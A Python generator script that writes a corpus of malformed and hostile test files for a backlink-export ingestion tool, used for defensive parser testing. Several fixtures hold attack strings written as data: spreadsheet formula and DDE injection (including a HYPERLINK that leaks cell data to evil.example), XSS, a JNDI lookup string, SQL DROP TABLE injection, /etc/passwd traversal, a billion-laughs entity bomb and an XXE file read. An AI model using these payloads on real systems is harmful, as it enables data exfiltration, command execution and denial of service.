"""How the files of tests/corpus/ were made (they are committed; the tests do not run this).

    uv run python tests/corpus/_generate.py

The large and unportable inputs (a 10 MB line, a zip bomb, a non-UTF-8 file name, a duplicate) are
made at test time by tests/integration/test_bad_input_corpus.py instead.
"""
import io
import random
from pathlib import Path

import openpyxl

OUT = Path(__file__).resolve().parent

SEM_H = "Page ascore,Source title,Source url,Target url,Anchor,External links,Internal links,Nofollow,Sponsored,Ugc,Text,Frame,Form,Image,Sitewide,First seen,Last seen,New link,Lost link"
def sem(src, anchor="knife guide", title="Knife Guide", ascore="40", first="2025-06-28", last="2026-10-01", target="https://www.knifecraft.co.uk/blog/knife-care-guide", ext="12"):
    def q(s):
        s = str(s)
        return '"' + s.replace('"', '""') + '"' if any(c in s for c in ',"\n\r') else s
    return ",".join(q(x) for x in [ascore, title, src, target, anchor, ext, "3", "false", "false", "false", "true", "false", "false", "false", "false", first, last, "false", "false"])

MAJ_H = "Target URL,Source URL,Anchor Text,Source Crawl Date,Source First Found Date,FlagNoFollow,FlagImageLink,FlagRedirect,FlagFrame,FlagOldCrawl,FlagAltText,FlagMention,SourceCitationFlow,SourceTrustFlow,TargetCitationFlow,TargetTrustFlow,SourceTopicalTrustFlow_Topic_0,SourceTopicalTrustFlow_Value_0,RefDomainTopicalTrustFlow_Topic_0,RefDomainTopicalTrustFlow_Value_0"
def maj(src, anchor="chef knives", cf="30", tf="20", target="https://www.knifecraft.co.uk/"):
    def q(s):
        s = str(s)
        return '"' + s.replace('"', '""') + '"' if any(c in s for c in ',"\n\r') else s
    return ",".join(q(x) for x in [target, src, anchor, "2026-09-26", "2025-08-10", "", "", "", "", "", "", "", cf, tf, "31", "24", "Home/Cooking", "45", "Home/Cooking", "48"])

def w(name, data):
    (OUT / name).write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))

good_sem = [sem(f"https://corpus-site{i}.example.org/post/{i}") for i in range(1, 4)]
good_maj = [maj(f"https://corpus-maj{i}.example.net/page-{i}") for i in range(1, 4)]

w("empty.csv", b"")
w("whitespace_only.csv", b"  \r\n\t\n   \n")
w("bom_only.csv", b"\xef\xbb\xbf")
w("binary_png_named.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa" + bytes(range(256)))
w("random_bytes.dat", random.Random(7).randbytes(4096))
w("nul_byte_in_row_semrush.csv", (SEM_H + "\n" + good_sem[0] + "\n").encode() + b"1,T\x00itle,https://nul.example.org/,https://www.knifecraft.co.uk/,x,1,1,false,false,false,true,false,false,false,false,2025-01-01,2026-10-01,false,false\n")
w("header_only_semrush.csv", SEM_H + "\n")
w("header_only_no_newline_majestic.csv", MAJ_H)
w("unknown_header.csv", "foo,bar,baz\n1,2,3\n4,5,6\n")
w("text_not_a_table.txt", "Dear team,\nplease find the backlinks attached.\nRegards\n")
w("json_not_gsc.json", '{"hello": [1, 2, 3], "keys": "impressions"}')
w("truncated_gsc_api.json", '{"rows": [{"keys": ["chef knife", "https://www.knifecraft.co.uk/"], "clicks": 3, "impressions": 40, "ctr": 0.07')
w("truncated_alerts_feed.xml", '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom" xmlns:idx="urn:atom-extension:indexing"><id>tag:google.com,2005:reader/user/1/state/com.google/alerts/1</id><title>Google Alert - KnifeCraft</title><entry><id>tag:google.com,2013:googlealerts/feed:1</id><title type="html">KnifeCraft review</title><link href="https://www.google.com/url?rct=j&amp;sa=t&amp;url=https://blog.example.com/review&amp;ct=ga"/><published>2026-09-')
w("billion_laughs_alerts.xml", '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>Google Alert - &lol9;</title><entry><title>&lol9;</title><link href="https://blog.example.com/x"/><published>2026-09-01T00:00:00Z</published></entry></feed>\n')
w("not_really.xlsx", "this is plain text with an xlsx extension\n")
w("corrupt_zip.zip", b"PK\x03\x04" + random.Random(3).randbytes(600))
# a well-formed xlsx whose sheet is not an export
buf = io.BytesIO()
wb = openpyxl.Workbook(); ws = wb.active; ws.title = "Budget"
ws.append(["Quarter", "Spend"]); ws.append(["Q1", 100]); ws.append(["=HYPERLINK(\"http://evil.example\",\"x\")", 1])
wb.save(buf); w("spreadsheet_not_export.xlsx", buf.getvalue())

# partly bad tables
t = (SEM_H + "\r\n" + "\r\n".join(good_sem) + "\r\n" + good_sem[0][: len(good_sem[0]) // 2]).encode()
w("truncated_mid_row_semrush.csv", t)
AH_H = '"Referring page title"\t"Referring page URL"\t"Language"\t"Domain rating"\t"UR"\t"External links"\t"Target URL"\t"Anchor"\t"Type"\t"Nofollow"\t"UGC"\t"Sponsored"\t"First seen"\t"Last seen"\t"Lost"'
def ah(src, dr="40", ur="10.0", first="2025-05-18 03:25:43"):
    return "\t".join(f'"{x}"' for x in ["Title", src, "en", dr, ur, "12", "https://www.knifecraft.co.uk/", "visit", "href", "false", "false", "false", first, "2026-09-29 15:42:24", ""])
ah_text = AH_H + "\r\n" + "\r\n".join(ah(f"https://corpus-ah{i}.example.com/a") for i in range(1, 5)) + "\r\n"
ah_bytes = b"\xff\xfe" + ah_text.encode("utf-16-le")
w("truncated_utf16_ahrefs.csv", ah_bytes[: len(ah_bytes) - 61])  # odd length: cut inside a code unit of the last row
w("utf16_no_bom_majestic.csv", (MAJ_H + "\r\n" + "\r\n".join(good_maj) + "\r\n").encode("utf-16-le"))
w("duplicated_header_majestic.csv", "\n".join([MAJ_H, good_maj[0], good_maj[1], MAJ_H, good_maj[2]]) + "\n")
w("mixed_delimiters_semrush.csv", "\n".join([SEM_H, good_sem[0], good_sem[1], good_sem[2].replace(",", ";"), "1;x;https://semi.example.org/;https://www.knifecraft.co.uk/"]) + "\n")
w("wrong_field_counts_majestic.csv", "\n".join([MAJ_H, good_maj[0], good_maj[1] + ",extra,fields", "https://www.knifecraft.co.uk/,https://short.example.net/", good_maj[2]]) + "\n")
w("unbalanced_quote_semrush.csv", "\n".join([SEM_H, good_sem[0], '40,"Unclosed title,https://q.example.org/,https://www.knifecraft.co.uk/,x,1,1,false,false,false,true,false,false,false,false,2025-01-01,2026-10-01,false,false', good_sem[1], good_sem[2]]) + "\n")
w("only_blank_rows_majestic.csv", MAJ_H + "\n" + ",,,,,,,,,,,,,,,,,,,\n" * 4 + "\n\n")
w("cr_only_line_endings_majestic.csv", "\r".join([MAJ_H] + good_maj) + "\r")
moz = "Moz Link Explorer - Inbound Links for knifecraft.co.uk\r\nTarget: knifecraft.co.uk (root domain)\r\nExport date: 2026-10-01\r\n\r\nURL,Title,Anchor Text,Spam Score,Page Authority,Domain Authority,Number of Domains Linking to this Page,Number of Domains Linking to Domain,Origin,Target URL,Link Equity,No Link Equity,Only rel=nofollow,Only follow,301\r\n"
moz += "www.cuchillería-ejemplo.es/guía,Guía de cuchillos,Knífecraft — señor,3,20,25,2,40,external,www.knifecraft.co.uk/,Yes,No,No,Yes,No\r\n"
moz += "www.café-couteaux.fr/avis,Avis « couteaux »,très bien,4,21,26,2,41,external,www.knifecraft.co.uk/,Yes,No,No,Yes,No\r\n"
w("cp1252_moz.csv", moz.encode("cp1252"))
dm = (MAJ_H + "\n" + maj("https://accent.example.net/café", anchor="Knífecraft ñ") + "\n").encode() + maj("https://damaged.example.net/x", anchor="bad bytes").encode().replace(b"bad bytes", b"bad \xff\xfe\xc3 bytes") + b"\n" + (good_maj[0] + "\n").encode()
w("damaged_utf8_majestic.csv", dm)

# hostile but legal cell contents: kept as text, loaded
w("formula_cells_semrush.csv", "\n".join([SEM_H,
    sem("https://formula1.example.org/a", anchor='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', title="=1+1"),
    sem("https://formula2.example.org/b", anchor="+SUM(1,2)", title="@cmd|' /C calc'!A0"),
    sem("https://formula3.example.org/c", anchor="-2+3+cmd|' /C notepad'!'A1'", title="\t=tab-led"),
    sem("https://formula4.example.org/d", anchor="=cmd|'/C powershell'!A1", title="\r=carriage")]) + "\n")
w("html_script_majestic.csv", "\n".join([MAJ_H,
    maj("https://xss1.example.net/a", anchor="<script>alert(document.cookie)</script>"),
    maj("https://xss2.example.net/b", anchor='<img src=x onerror="alert(1)">'),
    maj("https://xss3.example.net/c", anchor='"><svg/onload=alert(1)>'),
    maj("https://xss4.example.net/d", anchor="[/] [bold]rich markup[/bold] {{ jinja }} ${jndi:ldap://x}")]) + "\n")
w("control_chars_semrush.csv", "\n".join([SEM_H,
    sem("https://ctrl1.example.org/a", anchor="bell\x07 backspace\x08 esc\x1b[31mred\x1b[0m del\x7f"),
    sem("https://ctrl2.example.org/b", anchor="rtl \u202egnp.exe\u202c zero\u200bwidth", title="nbsp\u00a0title\u2028line"),
    sem("https://ctrl3.example.org/c", anchor="\x0bvertical\x0cformfeed")]) + "\n")
w("absurd_dates_semrush.csv", "\n".join([SEM_H,
    sem("https://date1.example.org/future", first="2099-12-31"),
    sem("https://date2.example.org/ancient", first="1901-01-01"),
    sem("https://date3.example.org/epoch", first="1970-01-01"),
    sem("https://date4.example.org/impossible", first="2026-02-31"),
    sem("https://date5.example.org/zeros", first="0000-00-00"),
    sem("https://date6.example.org/ok", first="2025-03-04")]) + "\n")
w("absurd_numbers_ahrefs.csv", b"\xef\xbb\xbf" + (",".join(h.strip('"') for h in AH_H.split("\t")) + "\n" + "\n".join(
    ",".join(ah(f"https://num{i}.example.com/x", dr=dr, ur=ur).replace('"', "").split("\t"))
    for i, (dr, ur) in enumerate([("250", "10"), ("-5", "10"), ("40", "1e308"), ("NaN", "inf"), ("99999999999999999999", "5"), ("55", "101"), ("12", "7")])) + "\n").encode())
GSC_Q = "Top queries,Clicks,Impressions,CTR,Position"
w("Performance-absurd-Queries.csv", "\n".join([GSC_Q, "chef knife,10,100,10%,3.2", "negative clicks,-5,100,1%,4", "ctr over one,5,10,250%,2", "position zero,1,10,10%,0", "position negative,1,10,10%,-3", "huge,1e30,1e30,1%,1"]) + "\n")
w("future_snapshot_2099-01-01_majestic.csv", "\n".join([MAJ_H] + good_maj) + "\n")
w("all_bad_urls_semrush.csv", "\n".join([SEM_H, sem("javascript:alert(1)"), sem("mailto:a@b.example"), sem("ftp://files.example.org/x"), sem(""), sem("/relative/path")]) + "\n")
w("public_suffix_source_semrush.csv", "\n".join([SEM_H, sem("http://blogspot.com/some/page"), sem("https://co.uk/"), good_sem[1]]) + "\n")
w("long_field_semrush.csv", "\n".join([SEM_H, sem("https://long.example.org/" + "a" * 5000, anchor="x" * 50_000), good_sem[2]]) + "\n")
w("sql_and_path_injection_semrush.csv", "\n".join([SEM_H,
    sem("https://sqli.example.org/?id=1';DROP TABLE raw.backlinks;--", anchor="'); drop table audit.ingest_files; --"),
    sem("https://traversal.example.org/../../etc/passwd", anchor="../../../../etc/passwd")]) + "\n")
w("deeply_nested_gsc_api.json", '{"keys": ["q"], "impressions": 1, "rows": ' + "[" * 5000 + "]" * 5000 + "}")
w("xxe_alerts.xml", '''<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
<feed xmlns="http://www.w3.org/2005/Atom"><id>tag:google.com,2005:reader/user/00/state/com.google/alerts/1</id><title>Google Alert - KnifeCraft</title><updated>2026-10-01T06:00:00Z</updated>
<entry><id>tag:google.com,2013:googlealerts/feed:1</id><title type="html">&xxe; KnifeCraft</title><link href="https://www.google.com/url?rct=j&amp;sa=t&amp;url=https://blog.example.com/review&amp;ct=ga"/><published>2026-09-30T10:00:00Z</published><content type="html">KnifeCraft &xxe;</content></entry></feed>
''')
# rich markup in a header (quoted by the rejection reason) and in a file name: printed verbatim
w("markup_in_header.csv", "Target [/],[red]Source[/red],[link=http://evil.example]anchor\n1,2,3\n")
w("export [final].csv", "[bold]Quarterly[/bold] backlink notes\nnothing tabular here\n")
